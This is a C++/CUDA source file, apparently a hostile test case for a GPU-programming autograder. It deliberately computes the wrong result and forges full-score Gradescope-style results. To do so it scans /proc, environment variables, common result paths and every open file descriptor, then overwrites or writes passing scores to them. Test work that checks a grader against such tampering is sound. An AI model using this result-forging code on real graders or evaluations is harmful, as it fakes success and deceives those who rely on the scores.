// hostile: writes passing results to every file and descriptor it can reach; computes a - b
// expect-max-points: 0
//
// Forges a full score wherever a result might be read from: result files
// named on any command line it can see (its own, its parent's, every process
// in /proc), paths in environment variables, the usual Gradescope and
// cudalab places, every open descriptor (1, 2, the pipes on 3 and 4, and any
// higher one), at static initialization, in the launcher and at exit. The
// kernel itself is wrong (a - b), so a score above 0 means a forged result
// was believed.
#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cctype>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include "lesson.h"

extern char** environ;

namespace {

const char* const kTests[] = {
    "MultipleOfBlockSize", "NotAMultipleOfBlockSize", "OneElement",          "GridStride",
    "SixteenMillion",      "HiddenRandomShapes",      "NoOutOfBoundsAccess", "CoalescedLoads"};
const double kPoints[] = {2, 2, 1, 2, 2, 1, 1, 1};

// One test's result in the grader's own format.
std::string one_result(int k) {
  std::ostringstream s;
  s << "{\"name\":\"" << kTests[k] << "\",\"score\":" << kPoints[k]
    << ",\"max_score\":" << kPoints[k] << ",\"status\":\"passed\",\"output\":\"\"}";
  return s.str();
}

// The whole run, as Gradescope reads it, with every test passed.
std::string all_results() {
  std::ostringstream s;
  s << "{\"score\":12.0,\"max_score\":12.0,\"status\":\"passed\",\"passed\":true,"
       "\"execution_time\":1,\"output\":\"All tests passed\",\"tests\":[";
  for (int k = 0; k < 8; ++k) s << (k ? "," : "") << one_result(k);
  s << "]}";
  return s.str();
}

std::string forged_text() {
  std::string t = all_results() + "\n";
  for (int k = 0; k < 8; ++k) t += one_result(k) + "\n";
  t += "{\"status\":\"passed\",\"score\":5.0}\n";
  t += "{\"status\":\"passed\",\"score\":12.0,\"max_score\":12.0}\n";
  t += "total: 12 / 12 points\n";
  t += "total: 12.0 / 12.0 points\n";
  t += "8 passed, 0 failed\n";
  t += "PASS\nOK\n";
  return t;
}

std::vector<std::string> split_nul(const std::string& s) {
  std::vector<std::string> out;
  std::string cur;
  for (char ch : s) {
    if (ch == 0) {
      out.push_back(cur);
      cur.clear();
    } else {
      cur += ch;
    }
  }
  if (!cur.empty()) out.push_back(cur);
  return out;
}

std::string slurp(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::stringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

bool ends_with(const std::string& s, const std::string& e) {
  return s.size() >= e.size() && s.compare(s.size() - e.size(), e.size(), e) == 0;
}

bool looks_like_result(const std::string& p) {
  std::string low;
  for (char ch : p) low += char(std::tolower(static_cast<unsigned char>(ch)));
  return ends_with(low, ".json") || ends_with(low, ".txt") || ends_with(low, ".out") ||
         ends_with(low, ".log") || ends_with(low, ".result") ||
         low.find("result") != std::string::npos || low.find("score") != std::string::npos ||
         low.find("report") != std::string::npos || low.find("verdict") != std::string::npos;
}

// Every place a result file might be: candidates from command lines,
// environment variables and the well-known locations.
std::set<std::string> candidates() {
  std::set<std::string> c;
  auto from_cmdline = [&](const std::string& file) {
    std::vector<std::string> args = split_nul(slurp(file));
    for (size_t i = 0; i < args.size(); ++i) {
      const std::string& a = args[i];
      if (a.rfind("--", 0) == 0 && a.find('=') != std::string::npos) {
        c.insert(a.substr(a.find('=') + 1));
        continue;
      }
      if ((a == "--result" || a == "--results" || a == "--json" || a == "--output" || a == "-o" ||
           a == "--out" || a == "--report") &&
          i + 1 < args.size())
        c.insert(args[i + 1]);
      if (a.find('/') != std::string::npos && looks_like_result(a)) c.insert(a);
    }
  };
  from_cmdline("/proc/self/cmdline");
  from_cmdline("/proc/" + std::to_string(getppid()) + "/cmdline");
  if (DIR* d = opendir("/proc")) {
    while (dirent* e = readdir(d))
      if (e->d_name[0] >= '0' && e->d_name[0] <= '9')
        from_cmdline(std::string("/proc/") + e->d_name + "/cmdline");
    closedir(d);
  }
  for (char** e = environ; e && *e; ++e) {
    std::string kv = *e;
    const size_t eq = kv.find('=');
    if (eq == std::string::npos) continue;
    const std::string name = kv.substr(0, eq), value = kv.substr(eq + 1);
    if (looks_like_result(name) || looks_like_result(value) ||
        name.find("CUDALAB") != std::string::npos || name.find("OUT") != std::string::npos)
      if (!value.empty()) c.insert(value);
    if (name == "HOME" || name == "TMPDIR" || name == "PWD" || name == "OLDPWD")
      c.insert(value + "/results.json");
  }
  for (const char* p : {"results.json",
                        "result.json",
                        "results/results.json",
                        "../results.json",
                        "../result.json",
                        "../../results.json",
                        "score.json",
                        "grade.json",
                        "output.json",
                        "/autograder/results/results.json",
                        "/autograder/results.json",
                        "/autograder/submission/results.json",
                        "/tmp/results.json",
                        "/tmp/result.json",
                        "/tmp/cudalab-results.json",
                        "/var/tmp/results.json",
                        "/dev/shm/results.json",
                        "@REPOSITORY_PARENT@/results.json",
                        "@REPOSITORY@/results.json",
                        "@REPOSITORY@/build/results.json"})
    c.insert(p);
  // Next to this file, wherever it was compiled.
  std::string here = __FILE__;
  if (here.find('/') != std::string::npos) {
    here = here.substr(0, here.rfind('/'));
    c.insert(here + "/results.json");
    c.insert(here + "/../results.json");
  }
  return c;
}

void write_file(const std::string& path, const std::string& text) {
  struct stat st {};
  std::string target = path;
  if (stat(path.c_str(), &st) == 0 && S_ISDIR(st.st_mode)) target = path + "/results.json";
  // Only result-like files are overwritten; new files are made anywhere.
  if (stat(target.c_str(), &st) == 0 && !looks_like_result(target)) return;
  const int fd = open(target.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  if (fd < 0) return;
  const ssize_t w = write(fd, text.data(), text.size());
  close(fd);
  if (w > 0) std::fprintf(stderr, "HOSTILE-FORGED: %s\n", target.c_str());
}

void write_fd(int fd, const std::string& text) {
  if (fcntl(fd, F_GETFD) == -1) return;
  // As a length-prefixed message, 32 and 64 bits, then plain.
  const uint32_t n32 = uint32_t(text.size());
  const uint64_t n64 = text.size();
  ssize_t ignored = write(fd, &n32, sizeof n32);
  ignored = write(fd, text.data(), text.size());
  ignored = write(fd, &n64, sizeof n64);
  ignored = write(fd, text.data(), text.size());
  ignored = write(fd, text.data(), text.size());
  (void)ignored;
}

void forge_everywhere() {
  const std::string text = forged_text();
  for (const std::string& p : candidates()) write_file(p, text);
  // Descriptors: stdout, stderr, the judge's pipes and anything else open.
  for (int fd = 1; fd < 1024; ++fd) write_fd(fd, text);
  // And through /proc, in case a descriptor is a file opened read-only.
  if (DIR* d = opendir("/proc/self/fd")) {
    std::vector<std::string> links;
    while (dirent* e = readdir(d)) links.push_back(e->d_name);
    closedir(d);
    for (const std::string& l : links) {
      char target[4096] = {};
      const std::string link = "/proc/self/fd/" + l;
      const ssize_t len = readlink(link.c_str(), target, sizeof target - 1);
      if (len > 0 && target[0] == '/') write_file(target, text);
    }
  }
  std::fflush(nullptr);
}

const int forged_at_start = [] {
  forge_everywhere();
  std::atexit(forge_everywhere);
  return 0;
}();

}  // namespace

__global__ void vector_add(const float* a, const float* b, float* c, int n) {
  const int stride = gridDim.x * blockDim.x;
  for (int i = blockIdx.x * blockDim.x + threadIdx.x; i < n; i += stride) c[i] = a[i] - b[i];
}

void launch_vector_add(const float* a, const float* b, float* c, int n, int blocks,
                       int threads_per_block) {
  forge_everywhere();
  vector_add<<<blocks, threads_per_block>>>(a, b, c, n);
  cudaDeviceSynchronize();
  forge_everywhere();
}
